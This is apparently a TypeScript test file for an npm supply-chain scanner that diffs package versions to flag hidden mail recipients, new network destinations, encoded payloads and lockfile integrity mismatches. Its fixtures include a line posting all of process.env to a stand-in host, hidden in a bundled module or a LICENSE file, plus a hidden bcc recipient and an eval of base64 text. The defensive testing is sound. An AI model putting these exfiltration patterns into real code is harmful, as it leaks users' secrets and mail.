// diff over packages in memory, with the real analysis: what is new in the later copy, what both have, and what could not be read.
import { describe, expect, test } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { diffFiles, diffOf, inFolder, modelCase, pathWord, specWord } from '../support/diff.ts';
import { memoryRegistry, packed, type Stored } from '../support/memory-registry.ts';
import { bundleOf, problemsOf, usualBundle } from '../support/scan.ts';

const judged = (report: Report) => report.findings.map(({ ruleId, standing }) => `${standing ?? ''} ${ruleId}`);
const MODEL: Stored = { 'postmark-mcp': { '1.0.14': { files: { ...modelCase('1.0.15'), 'package.json': modelCase('1.0.15')['package.json']?.replace('1.0.15', '1.0.14') ?? '' } }, '1.0.15': { files: modelCase('1.0.15') }, '1.0.16': { files: modelCase('1.0.16') } } };

describe('the model case', () => {
  test('1.0.15 to 1.0.16: the recipient is new, at its line', async () => {
    const report = await diffOf(specWord('postmark-mcp@1.0.15'), specWord('postmark-mcp@1.0.16'), { registry: memoryRegistry(MODEL) });
    expect(report.verdict).toMatchObject({ status: 'findings', exitCode: 1, scope: 'postmark-mcp@1.0.16 against postmark-mcp@1.0.15' });
    expect(report.findings[0]).toMatchObject({ standing: 'new', package: { name: 'postmark-mcp', version: '1.0.16' }, locations: [{ path: 'postmark-mcp@1.0.16/index.js', line: 65 }] });
    expect(report.findings[0]?.ruleId).toMatch(/mail-recipient$/);
    const [difference] = report.differences ?? [];
    expect(difference).toMatchObject({
      before: { label: 'postmark-mcp@1.0.15', source: 'registry', path: 'postmark-mcp@1.0.15', version: '1.0.15', files: 3 },
      after: { label: 'postmark-mcp@1.0.16', source: 'registry', version: '1.0.16', release: { release: { registry: 'https://registry.example/', published: { time: '2025-09-15T10:00:00.000Z', from: 'last-modified' } } } },
      manifest: [{ field: 'version', was: '1.0.15', now: '1.0.16' }],
    });
    expect(difference?.behaviors.map(({ kind, behavior }) => [kind, behavior.kind, behavior.place.line])).toEqual([['added', 'mail', 65]]);
    expect(difference?.files.map(({ path, kind }) => `${kind} ${path}`)).toEqual(['changed index.js', 'changed package.json']);
  });

  test('1.0.14 to 1.0.15 is clean', async () => {
    const report = await diffOf(specWord('postmark-mcp@1.0.14'), specWord('postmark-mcp@1.0.15'), { registry: memoryRegistry(MODEL) });
    expect(report.verdict).toMatchObject({ status: 'clean', exitCode: 0 });
    expect(report.findings.filter(({ severity }) => severity !== 'info')).toEqual([]);
  });

  test('a folder against a tarball gives the same', async () => {
    const report = await diffOf(pathWord('old'), pathWord('new.tgz'), { tree: { ...inFolder('old', modelCase('1.0.15')), 'new.tgz': packed(modelCase('1.0.16')) } });
    expect(report.findings[0]).toMatchObject({ standing: 'new', locations: [{ path: 'new.tgz!/index.js', line: 65 }] });
    expect(report.differences).toMatchObject([{ before: { source: 'folder', path: 'old' }, after: { source: 'tarball', path: 'new.tgz!', hashes: { integrity: expect.stringMatching(/^sha512-/) as string } } }]);
  });

  test('with the bundle, the version is known; and a known-bad earlier side is said', async () => {
    const bundles = await usualBundle();
    const forward = await diffOf(specWord('postmark-mcp@1.0.15'), specWord('postmark-mcp@1.0.16'), { registry: memoryRegistry(MODEL), bundles });
    expect(judged(forward)).toContain('new known-malicious-version');
    const back = await diffOf(specWord('postmark-mcp@1.0.16'), specWord('postmark-mcp@1.0.15'), { registry: memoryRegistry(MODEL), bundles });
    expect(judged(back).join()).not.toContain('known-malicious-version');
    expect(back.coverage.notes.join()).toContain('the earlier side is itself no known-good version: postmark-mcp 1.0.16 is known to be malicious');
  });
});

describe('code where nobody looks', () => {
  const SENDS = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(process.env) });\n";
  const base = { 'package.json': JSON.stringify({ name: 'a-package', version: '1.0.0', main: 'index.js', bundleDependencies: ['inner'] }), 'index.js': "require('inner');\n", 'node_modules/inner/package.json': '{"name":"inner","version":"1.0.0"}', 'node_modules/inner/index.js': 'exports.a = 1;\n' };
  const between = async (after: Readonly<Record<string, string>>) => judged(await diffOf(pathWord('old.tgz'), pathWord('new.tgz'), { tree: { 'old.tgz': packed(base), 'new.tgz': packed({ ...base, ...after }) } }));

  test('of a package that is bundled', async () => {
    expect(await between({ 'node_modules/inner/index.js': `${base['node_modules/inner/index.js']}${SENDS}` })).toContain('new new-network-destination');
    expect(await between({ 'node_modules/inner/index.js': 'exports.a = 2;\n' })).toEqual([]);
  });

  test('in a file without an extension', async () => {
    expect(await between({ 'index.js': `${base['index.js']}require('./LICENSE');\n`, LICENSE: SENDS })).toContain('new new-network-destination');
  });
});

describe('what was there before', () => {
  test('a finding of both copies is kept', async () => {
    const bad = modelCase('1.0.16');
    const report = await diffFiles(bad, { ...bad, 'index.js': `${bad['index.js']}\n// the end\n` });
    expect(report.findings.length).toBeGreaterThan(0);
    expect(report.findings.map(({ standing }) => standing)).toEqual(report.findings.map(() => 'kept'));
    expect(report.differences?.[0]?.behaviors).toEqual([]);
  });

  test('identical copies are clean, and nothing differs', async () => {
    const report = await diffFiles(modelCase('1.0.15'), modelCase('1.0.15'));
    expect(report.verdict.exitCode).toBe(0);
    expect(report.differences).toMatchObject([{ behaviors: [], manifest: [], files: [], totals: { same: 3, added: 0, changed: 0, removed: 0 } }]);
  });

  test('what was removed is no finding', async () => {
    const report = await diffFiles(modelCase('1.0.16'), modelCase('1.0.15'));
    expect(report.findings.filter(({ severity }) => severity !== 'info')).toEqual([]);
    expect(report.differences?.[0]?.behaviors.map(({ kind }) => kind)).toEqual(['removed']);
  });
});

describe('--against-known-good', () => {
  test('the newest earlier version without known harm, and why', async () => {
    const report = await diffOf('known-good', specWord('postmark-mcp@1.0.16'), { registry: memoryRegistry(MODEL), bundles: await usualBundle() });
    expect(report.differences?.[0]?.before.label).toBe('postmark-mcp@1.0.15');
    expect(report.coverage.notes.join()).toContain('compared with postmark-mcp 1.0.15: every earlier version is listed; in this one, the newest of those, no harm is known');
  });

  test('a version that no bundle lists comes first, prereleases left out, by version and not by time', async () => {
    const files = { 'package.json': '{"name":"a","version":"2.0.0"}' };
    const stored = { a: { '1.9.0': { files, time: '2025-03-01T00:00:00Z' }, '2.0.0-rc.1': { files, time: '2025-02-01T00:00:00Z' }, '1.10.0': { files, time: '2025-01-01T00:00:00Z' }, '2.0.0': { files, time: '2025-04-01T00:00:00Z' } } };
    const report = await diffOf('known-good', specWord('a@2.0.0'), { registry: memoryRegistry(stored), bundles: await usualBundle() });
    expect(report.differences?.[0]?.before.label).toBe('a@1.10.0');
    expect(report.coverage.notes.join()).toContain('the newest earlier version that no bundle lists');
  });

  test('the first version has no earlier one: no verdict', async () => {
    const report = await diffOf('known-good', specWord('a@1.0.0'), { registry: memoryRegistry({ a: { '1.0.0': { files: { 'package.json': '{"name":"a","version":"1.0.0"}' } } } }) });
    expect(report.verdict.exitCode).toBe(2);
    expect(problemsOf(report)).toMatchObject([{ code: 'not-found', message: 'no earlier version of a than 1.0.0 is known to be good' }]);
  });
});

describe('added dependencies', () => {
  const manifest = (dependencies: Readonly<Record<string, string>>) => ({ 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', dependencies }) });

  test('are asked about where a side came from a registry, and nothing else is', async () => {
    const registry = memoryRegistry({ a: { '1.0.0': { files: manifest({}) }, '1.0.1': { files: manifest({ b: '^1.0.0' }) } }, b: { '1.2.0': { files: { 'package.json': '{"name":"b","version":"1.2.0","scripts":{"postinstall":"node x.js"}}' } } } });
    const report = await diffOf(specWord('a@1.0.0'), specWord('a@1.0.1'), { registry });
    expect(registry.asked).toEqual(['a@1.0.0', 'a@1.0.0.tgz', 'a@1.0.1', 'a@1.0.1.tgz', 'b@^1.0.0', 'b (all)']);
    expect(report.coverage.places.filter(({ kind }) => kind === 'registry').map(({ path }) => path)).toEqual(['a@1.0.0', 'a@1.0.1', 'b@^1.0.0']);
  });

  test('of two folders ask nobody, and that is said', async () => {
    const registry = memoryRegistry({});
    const report = await diffFiles(manifest({}), manifest({ b: '1', c: '2' }), { registry });
    expect(registry.asked).toEqual([]);
    expect(report.coverage.places.flatMap(({ notes }) => notes).join()).toContain('no registry was asked about the 2 added dependencies');
  });

  test('one that is not published makes the run incomplete', async () => {
    const registry = memoryRegistry({ a: { '1.0.0': { files: manifest({}) }, '1.0.1': { files: manifest({ 'no-such': '1.0.0' }) } } });
    const report = await diffOf(specWord('a@1.0.0'), specWord('a@1.0.1'), { registry });
    expect(problemsOf(report)).toMatchObject([{ code: 'not-found', path: 'no-such@1.0.0' }]);
  });
});

describe('what cannot be read is no clean verdict', () => {
  test.each([
    ['a side that is not there', pathWord('nowhere'), 'not-found'],
    ['a tarball that is none', pathWord('noise.tgz'), 'malformed'],
    ['a version that is not published', specWord('a@9.9.9'), 'not-found'],
    ['a tarball that the registry refuses', specWord('a@1.0.0'), 'access-refused'],
    ['a tarball that is cut', specWord('a@1.0.1'), 'malformed'],
  ])('%s', async (_, after, code) => {
    const registry = memoryRegistry({ a: { '1.0.0': { files: {}, refuses: { code: 'access-refused', message: 'no' } }, '1.0.1': { files: {}, bytes: packed(modelCase('1.0.15')).subarray(0, 200) } } });
    const report = await diffOf(pathWord('old'), after, { registry, tree: { ...inFolder('old', modelCase('1.0.15')), 'noise.tgz': 'noise' } });
    expect(judged(report)).toEqual([]);
    expect(report.verdict.exitCode).toBe(2);
    expect(problemsOf(report).map((problem) => problem.code)).toContain(code);
    // A part of the cut one could be read.
    expect(report.differences).toHaveLength(after.kind === 'spec' && after.spec === 'a@1.0.1' ? 1 : 0);
  });

  test('the healthy rest of a damaged side is still compared', async () => {
    const report = await diffFiles(modelCase('1.0.15'), { ...modelCase('1.0.16'), 'package.json': '{ "name": "postmark-mcp",' });
    expect(report.findings.some(({ ruleId }) => ruleId.endsWith('mail-recipient'))).toBe(true);
    expect(problemsOf(report).length).toBeGreaterThan(0);
  });

  test('bytes that differ from what the registry promises are compared all the same', async () => {
    const registry = memoryRegistry({ a: { '1.0.0': { files: modelCase('1.0.15') }, '1.0.1': { files: modelCase('1.0.16'), release: { integrity: 'sha512-AAAA' } } } });
    const report = await diffOf(specWord('a@1.0.0'), specWord('a@1.0.1'), { registry });
    expect(report.findings.some(({ ruleId }) => ruleId.endsWith('mail-recipient'))).toBe(true);
  });
});

test('--exclude passes over files of both sides', async () => {
  const report = await diffFiles({ ...modelCase('1.0.15'), 'dist/a.js': '1' }, { ...modelCase('1.0.15'), 'dist/a.js': '2' }, { exclude: ['dist'] });
  expect(report.differences).toMatchObject([{ files: [], totals: { same: 3 } }]);
});

test('--history tells the time that the registry has', async () => {
  const files = { 'package.json': '{"name":"a","version":"1.0.0"}' };
  const registry = memoryRegistry({ a: { '1.0.0': { files, time: '2024-01-01T00:00:00.000Z' }, '1.0.1': { files, time: '2025-01-01T00:00:00.000Z' } } });
  const report = await diffOf(specWord('a@1.0.0'), specWord('a@1.0.1'), { registry, history: 'ask' });
  expect(report.differences).toMatchObject([{ before: { release: { release: { published: { time: '2024-01-01T00:00:00.000Z', from: 'registry' } } } }, after: { release: { release: { tags: ['latest'] } } } }]);
});

describe('code that did not change', () => {
  const quiet = { 'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}', 'other.js': "require('child_process').exec('id'); fetch('https://api.vendor.example/x');" };
  const behaviors = (report: Report) => report.differences?.[0]?.behaviors.map(({ kind, behavior: { kind: what, place } }) => `${kind} ${what} ${place.path}`);

  test('a constant that changes two imports away from where it is sent', async () => {
    const files = (address: string) => ({ ...quiet, 'send.js': "const { to } = require('./pass'); require('nodemailer').createTransport().sendMail({ from: 'a@b.example', to: process.argv[2], bcc: to });", 'pass.js': "exports.to = require('./deep/setting').to;", 'deep/setting.js': `exports.to = ${address};` });
    const report = await diffFiles(files('undefined'), files("'copy@other.example'"));
    expect(behaviors(report)).toContain('added mail send.js');
  });

  test('what another file did all along is not new', async () => {
    const report = await diffFiles({ ...quiet, 'index.js': '' }, { ...quiet, 'index.js': "fetch('https://api.vendor.example/x'); fetch('https://new.example/y');" });
    expect(behaviors(report)).toEqual(['added network index.js']);
    expect(report.differences?.[0]?.behaviors[0]?.behavior).toMatchObject({ host: 'new.example' });
  });

  test('what is still done elsewhere was not removed', async () => {
    const report = await diffFiles({ ...quiet, 'index.js': "fetch('https://api.vendor.example/x');" }, { ...quiet, 'index.js': '' });
    expect(behaviors(report)).toEqual([]);
  });

  test('a hidden recipient in it is kept, and still a finding', async () => {
    const bad = modelCase('1.0.16');
    const report = await diffFiles(bad, { ...bad, 'README.md': `${bad['README.md']}more`, 'package.json': bad['package.json']?.replace('1.0.16', '1.0.17') ?? '' });
    expect(judged(report)).toContain('kept hidden-mail-recipient');
  });

  test('so is harm that a gate shows in a package of another kind', async () => {
    const bad = { ...quiet, 'x.js': "const p = Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7Y29uc29sZS5sb2coMyk7', 'base64').toString(); eval(p);" };
    const report = await diffFiles({ ...bad, 'index.js': '1' }, { ...bad, 'index.js': '2' });
    expect(judged(report)).toContain('kept encoded-payload-executed');
  });

  test('a required file of any name', async () => {
    const files = (text: string) => ({ ...quiet, 'index.js': "require('./data.bin');", 'data.bin': text });
    const report = await diffFiles(files('1;'), files("fetch('https://new.example/y');"));
    expect(behaviors(report)).toEqual(['added network data.bin']);
  });
});

describe('a version that cannot be had', () => {
  test('is judged by its name, and the run is no verdict otherwise', async () => {
    const bundles = await bundleOf('postmark-mcp');
    const report = await diffOf(specWord('postmark-mcp@1.0.15'), specWord('postmark-mcp@1.0.16'), { bundles });
    expect(report.findings.map(({ ruleId, package: one }) => [ruleId, one?.version])).toEqual([['known-malicious-version', '1.0.16']]);
    expect(report.verdict.exitCode).toBe(1);
    const other = await diffOf(specWord('postmark-mcp@1.0.15'), specWord('postmark-mcp@0.0.1'), { bundles });
    expect([other.findings, other.verdict.exitCode]).toEqual([[], 2]);
  });

  test('the later copy is judged by itself where the earlier one cannot be had', async () => {
    const report = await diffOf(specWord('postmark-mcp@1.0.15'), pathWord('new'), { tree: inFolder('new', modelCase('1.0.16')) });
    expect(report.findings.map(({ ruleId, locations: [{ line }] }) => [ruleId, line])).toEqual([['hidden-mail-recipient', 65]]);
    expect(report.verdict.exitCode).toBe(1);
  });
});

describe('lockfiles that hold the version', () => {
  const registry = () => memoryRegistry(MODEL);
  const lockfile = (integrity: string) => JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app' }, 'node_modules/postmark-mcp': { version: '1.0.15', resolved: 'https://registry.example/postmark-mcp/-/postmark-mcp-1.0.15.tgz', integrity } } });
  const words = [specWord('postmark-mcp@1.0.14'), specWord('postmark-mcp@1.0.15')] as const;
  const locks = (...names: readonly string[]) => names.map((name) => ({ absolute: `/${name}`, shown: name, stable: name }));

  test('other bytes than a lockfile has are a finding, with its line', async () => {
    const report = await diffOf(...words, { registry: registry(), tree: { 'package-lock.json': lockfile(`sha512-${Buffer.alloc(64, 7).toString('base64')}`) }, locks: locks('package-lock.json') });
    const [finding] = report.findings;
    expect(finding).toMatchObject({ ruleId: 'integrity-mismatch', severity: 'high' });
    expect(finding?.locations.some(({ path, line }) => path === 'package-lock.json' && line === 1)).toBe(true);
    expect(report.verdict.exitCode).toBe(1);
  });

  test('the same bytes are said, under any name of the file', async () => {
    const { integrity = '' } = await registry().release('postmark-mcp@1.0.15').then((found) => (found.kind === 'found' ? found.value : { integrity: '' }));
    const report = await diffOf(...words, { registry: registry(), tree: { 'old.json': lockfile(integrity) }, locks: locks('old.json') });
    expect(report.findings.filter(({ ruleId }) => ruleId === 'integrity-mismatch')).toEqual([]);
    expect(report.coverage.places.flatMap(({ notes }) => notes)).toContain('held against the integrity in old.json');
    expect(report.verdict.exitCode).toBe(0);
  });

  test.each([['missing.json', {}], ['notes.txt', { 'notes.txt': 'nothing of the kind' }]])('%s: no verdict', async (name, tree) => {
    const report = await diffOf(...words, { registry: registry(), tree, locks: locks(name) });
    expect(report.verdict.exitCode).toBe(2);
    expect(problemsOf(report).map(({ path }) => path)).toEqual([name]);
  });
});
